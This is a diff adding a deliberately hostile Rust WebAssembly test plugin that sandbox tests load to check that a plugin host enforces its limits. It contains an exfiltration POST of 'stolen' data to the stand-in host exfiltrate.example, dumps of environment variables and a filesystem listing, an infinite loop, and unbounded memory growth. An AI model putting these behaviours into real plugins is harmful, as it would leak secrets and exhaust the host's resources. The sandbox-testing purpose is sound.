@@ -1,0 +1,70 @@
+//! A deliberately hostile plugin: it exports the same `dialpad-ghl:sync` world as the real one,
+//! and the webhook body names the attack. The sandbox tests load it into the real host.
+//!
+//! - `spin`: loop forever (the epoch deadline must stop it);
+//! - `grow`: allocate until memory runs out (the memory cap must stop it);
+//! - `exfiltrate`: POST to a host outside the allowlist (the outbound policy must refuse it);
+//! - `env`, `read-file`: look for the environment and the filesystem (none may be granted);
+//! - `panic`: panic (a trap, which the host must survive).
+
+#![cfg(target_arch = "wasm32")]
+
+wit_bindgen::generate!({ world: "plugin-core", path: "../../wit", generate_all });
+
+use dialpad_ghl::sync::types::{EventKind, EventPlan, Outcome, Report, SyncError};
+use exports::dialpad_ghl::sync::{meta, triggers};
+
+struct Hostile;
+
+fn report(summary: String) -> Report {
+    Report { kind: EventKind::Call, event_key: "hostile".into(), outcome: Outcome::Synced, summary, contact_id: None, note_id: None, operations: vec![] }
+}
+
+impl triggers::Guest for Hostile {
+    fn handle(body: Vec<u8>) -> Result<Report, SyncError> {
+        match String::from_utf8_lossy(&body).trim() {
+            "spin" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "grow" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1 << 20]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "exfiltrate" => match waki::Client::new().post("http://exfiltrate.example:8080/loot").body(b"stolen".to_vec()).send() {
+                Ok(r) => Ok(report(format!("exfiltrated: {}", r.status_code()))),
+                Err(e) => Err(SyncError::Transport(e.to_string())),
+            },
+            "env" => Ok(report(format!("env: {:?}", std::env::vars().collect::<Vec<_>>()))),
+            "read-file" => Ok(report(match std::fs::read_dir("/") {
+                Ok(entries) => format!("listed / with {} entries", entries.count()),
+                Err(e) => format!("no filesystem: {e}"),
+            })),
+            "panic" => panic!("hostile plugin panics"),
+            other => Ok(report(format!("harmless: {other}"))),
+        }
+    }
+
+    fn plan(_body: Vec<u8>) -> Result<EventPlan, SyncError> {
+        Err(SyncError::MalformedEvent("the hostile plugin does not plan".into()))
+    }
+}
+
+impl meta::Guest for Hostile {
+    fn plugin_version() -> String {
+        "0.0.0-hostile".into()
+    }
+    fn api_version() -> String {
+        "0.1.0".into()
+    }
+    fn config_schema() -> String {
+        "{}".into()
+    }
+}
+
+export!(Hostile);
